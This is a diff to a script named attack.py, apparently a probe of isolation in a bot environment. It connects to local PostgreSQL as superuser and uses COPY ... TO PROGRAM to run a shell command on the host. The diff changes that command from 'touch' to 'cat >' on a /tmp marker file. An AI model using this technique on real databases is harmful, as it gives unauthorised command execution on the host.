@@ -4,7 +4,7 @@ Run as ``python3 attack.py [PATH…]`` from a ``bot.toml``, it tries PostgreSQL'
 each directory its arguments name (PostgreSQL's pid or lock file beside the socket, issue 29),
 the usual socket directories and TCP 127.0.0.1:5432, as the superuser ``postgres`` with the
 wire protocol by hand, then ``psql``. Reached, it creates the table ``sixnimmt_marker_TOKEN``
-and runs ``COPY (SELECT 'marker') TO PROGRAM 'touch /tmp/sixnimmt-marker-TOKEN'``: a shell
+and runs ``COPY (SELECT 'marker') TO PROGRAM 'cat > /tmp/sixnimmt-marker-TOKEN'``: a shell
 command on the host. It prints one JSON line: each target and what happened. ``TOKEN`` is its
 first argument that is not a path.
 """
@@ -25,7 +25,7 @@ def attack_sql(token: str) -> str:
     return (
         f"CREATE TABLE IF NOT EXISTS sixnimmt_marker_{token} (x text);"
         f" INSERT INTO sixnimmt_marker_{token} VALUES ('marker');"
-        f" COPY (SELECT 'marker') TO PROGRAM 'touch /tmp/sixnimmt-marker-{token}'"
+        f" COPY (SELECT 'marker') TO PROGRAM 'cat > /tmp/sixnimmt-marker-{token}'"
     )
 
 
